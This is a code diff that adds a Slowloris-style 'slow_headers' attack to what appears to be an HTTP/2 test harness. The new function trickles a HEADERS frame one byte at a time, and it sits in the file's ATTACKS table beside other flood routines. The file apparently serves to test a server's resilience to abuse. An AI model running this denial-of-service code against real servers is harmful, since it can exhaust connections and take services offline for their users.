@@ -266,6 +266,32 @@ def settings_flood(host, port, count):
     conn.report(started, settings=sent)
 
 
+def slow_headers(host, port, count):
+    """Slowloris over HTTP/2: a HEADERS frame (END_HEADERS) whose payload comes one byte
+    every 100 ms, up to `count` bytes. (CONTINUATION frames would meet the codec's cap
+    on their number first.)"""
+    conn = Conn(host, port)
+    started = time.monotonic()
+    literal = hpack.Encoder()
+    literal.header_table_size = 0
+    fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"),
+              (":authority", f"{host}:{port}"), ("x-slow", "a" * int(count))]
+    frame = hf.HeadersFrame(1)
+    frame.data = literal.encode(fields, huffman=False)
+    frame.flags.add("END_HEADERS")
+    frame.flags.add("END_STREAM")
+    wire = frame.serialize()
+    conn.send(wire[:9])
+    sent = 0
+    while sent < int(count) and not conn.done():
+        conn.send(wire[9 + sent:10 + sent])
+        sent += 1
+        time.sleep(0.1)
+        conn.read(block=False)
+    conn.wait_goaway()
+    conn.report(started, bytes=sent)
+
+
 def reset_waiting(host, port, _arg):
     """A GET, then RST_STREAM once the test writes a line to stdin (when the backend has
     the request); then a PING, to show the connection lives on. Prints `pong=1`."""
@@ -294,6 +320,7 @@ ATTACKS = {
     "ping_flood": ping_flood,
     "settings_flood": settings_flood,
     "reset_waiting": reset_waiting,
+    "slow_headers": slow_headers,
 }
 
 if __name__ == "__main__":
